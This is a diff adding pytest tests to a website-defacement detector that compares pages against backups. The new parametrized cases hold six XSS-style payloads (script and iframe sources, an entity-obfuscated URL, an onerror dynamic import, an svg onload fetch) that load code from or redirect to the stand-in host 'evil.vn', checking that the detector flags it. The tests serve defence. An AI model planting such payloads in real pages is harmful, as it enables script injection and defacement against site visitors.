@@ -1,5 +1,6 @@
 """A page against the last good backups: a living portal never jumps, a defaced one does."""
 
+import time
 from collections import defaultdict
 from collections.abc import Callable, Iterator
 from dataclasses import replace
@@ -9,6 +10,7 @@ import pytest
 
 from ops.backups.pages.jump import find_jumps
 from ops.backups.pages.notes import Answer, PageNote, learn, note_answer
+from ops.backups.pages.page_text import read_html
 from ops.backups.pages.traits import find_traits, host_of
 from tests.defacements import DEFACEMENTS, UNSEEN
 from tests.moving_pages import CONTACT, HOME, NEWS, LivingPortal
@@ -156,6 +158,33 @@ def test_what_only_one_of_two_readings_shows_is_chance() -> None:
 )
 def test_the_host_of_an_address(address: str, host: str) -> None:
     assert host_of(address) == host
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """<script data-x=">" src="//evil.vn/x.js"></script>""",
+        """<iframe title='>' src=//evil.vn/>""",
+        """<script src="ht&#10;tps://evil.vn/a.js"></script>""",
+        """<script>location='//evil.vn/'</script>""",
+        """<img src=x onerror="import('https://evil.vn/a.js')">""",
+        """<svg/onload=fetch('//evil.vn/')>""",
+    ],
+)
+def test_it_obeys_who_is_named_in_the_ways_that_browsers_follow(source: str) -> None:
+    assert find_traits(source, "").obeys == ("evil.vn",)
+
+
+@pytest.mark.parametrize(
+    "source",
+    ['<a "' * 500_000, "<a '\"" * 500_000, '<a "' + "'" * 2_000_000, '<a b=">" ' * 300_000],
+)
+def test_quotes_without_end_cost_no_more_than_the_page_is_long(source: str) -> None:
+    begun = time.process_time()
+    find_traits(source, "")
+    read_html(source)
+
+    assert time.process_time() - begun < 5
 
 
 def test_what_a_page_obeys_leads_to_and_says_in_foreign_words() -> None:
